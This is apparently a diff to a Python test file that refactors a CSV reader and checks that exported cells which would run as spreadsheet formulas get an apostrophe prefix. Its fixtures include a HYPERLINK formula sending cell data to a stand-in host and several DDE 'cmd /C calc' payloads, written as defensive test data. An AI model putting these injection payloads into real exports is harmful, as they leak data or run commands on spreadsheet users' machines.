@@ -12,10 +12,8 @@ from vsv_metrics.store import Store
 from vsv_metrics.text import locale
 
 DIALECTS: tuple[Dialect, ...] = ("nl", "int")
-READ = {"nl": {"sep": ";", "decimal": ",", "encoding": "utf-8-sig"}, "int": {"sep": ",", "decimal": ".", "encoding": "utf-8"}}
-
 FORMULAS = (
-    "=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")",
+    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -35,7 +33,15 @@ HARMLESS = ("Zuid-Holland", "'s-Gravenhage", "RMC29", "a=b", "2022/23", "<b>x</b
 
 
 def read(content: bytes, dialect: Dialect) -> pd.DataFrame:
-    return pd.read_csv(io.BytesIO(content), **READ[dialect], dtype={"code": "str", "region_code": "str"}, keep_default_na=False)
+    dutch = dialect == "nl"
+    return pd.read_csv(
+        io.BytesIO(content),
+        sep=";" if dutch else ",",
+        decimal="," if dutch else ".",
+        encoding="utf-8-sig" if dutch else "utf-8",
+        dtype={"code": "str", "region_code": "str"},
+        keep_default_na=False,
+    )
 
 
 def test_the_dutch_dialect_is_what_dutch_excel_opens() -> None:
@@ -51,7 +57,7 @@ def test_the_international_dialect_has_points_and_no_mark() -> None:
 @pytest.mark.parametrize("dialect", DIALECTS)
 @pytest.mark.parametrize("text", FORMULAS)
 def test_a_text_that_would_run_as_a_formula_starts_with_an_apostrophe(text: str, dialect: Dialect) -> None:
-    cell = read(to_csv(pd.DataFrame({"code": [text]}), dialect), dialect)["code"].iat[0]
+    cell = str(read(to_csv(pd.DataFrame({"code": [text]}), dialect), dialect)["code"].iat[0])
     assert cell.startswith("'")
     assert cell[1:].replace("\r", "\n") == text.replace("\r", "\n")
 
@@ -71,7 +77,8 @@ def test_numbers_are_never_touched(dialect: Dialect) -> None:
 
 
 @pytest.mark.parametrize(
-    ("value", "written"), [(1234567.0, "1234567"), (-0.0, "0"), (0.1 + 0.2, "0.3"), (2.2857142857, "2.285714"), (1e15, "1000000000000000")]
+    ("value", "written"),
+    [(1234567.0, "1234567"), (-0.0, "0"), (0.1 + 0.2, "0.3"), (2.2857142857, "2.285714"), (1e15, "1000000000000000")],
 )
 def test_how_a_number_is_written(value: float, written: str) -> None:
     assert to_csv(pd.DataFrame({"x": [value]}), "int") == f"x\r\n{written}\r\n".encode()
@@ -92,7 +99,9 @@ def test_what_is_missing_is_an_empty_cell(dialect: Dialect) -> None:
 
 
 def test_yes_and_no_are_words_in_both_dialects() -> None:
-    assert {to_csv(pd.DataFrame({"b": [True, False]}), dialect).decode("utf-8-sig") for dialect in DIALECTS} == {"b\r\ntrue\r\nfalse\r\n"}
+    assert {to_csv(pd.DataFrame({"b": [True, False]}), dialect).decode("utf-8-sig") for dialect in DIALECTS} == {
+        "b\r\ntrue\r\nfalse\r\n"
+    }
 
 
 @pytest.mark.parametrize("dialect", DIALECTS)
